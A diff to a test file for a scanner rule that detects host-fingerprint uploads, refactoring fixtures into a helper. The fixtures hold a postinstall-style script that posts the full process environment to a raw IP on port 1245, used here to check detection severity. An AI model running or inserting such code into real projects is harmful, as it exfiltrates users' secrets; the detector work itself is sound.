@@ -1,6 +1,13 @@
 import { ruleTest } from '../../testing/rule-tester.js';
 import rule from './host-fingerprint-upload.js';
 
+/** A postinstall-style script posting the environment, as a field of its JSON body, to `host` on port 1245. */
+const envPostTo = (host: string) => `const http = require('http');
+const body = JSON.stringify({ env: process.env, cwd: process.cwd() });
+const req = http.request({ host: '${host}', port: 1245, path: '/collect', method: 'POST' });
+req.end(body);
+`;
+
 ruleTest(rule, {
   clean: [
     {
@@ -50,21 +57,13 @@ https.request({ hostname: 'api.github.com', path: '/repos/x/y/issues/4/comments'
     {
       name: 'the environment, as a field of the body, posted to a bare public IP (Contagious Interview port 1245): high',
       file: 'scripts/telemetry.js',
-      code: `const http = require('http');
-const body = JSON.stringify({ env: process.env, cwd: process.cwd() });
-const req = http.request({ host: '45.61.160.14', port: 1245, path: '/collect', method: 'POST' });
-req.end(body);
-`,
+      code: envPostTo('45.61.160.14'),
       findings: [{ line: 3, severity: 'high', confidence: 'high', message: /the whole environment\) via http\.request to the raw IP 45\.61\.160\.14/ }],
     },
     {
       name: 'the same to a TEST-NET address stays low (not a public host)',
       file: 'scripts/telemetry.js',
-      code: `const http = require('http');
-const body = JSON.stringify({ env: process.env, cwd: process.cwd() });
-const req = http.request({ host: '203.0.113.80', port: 1245, path: '/collect', method: 'POST' });
-req.end(body);
-`,
+      code: envPostTo('203.0.113.80'),
       findings: [{ line: 3, severity: 'low', confidence: 'low' }],
     },
     {
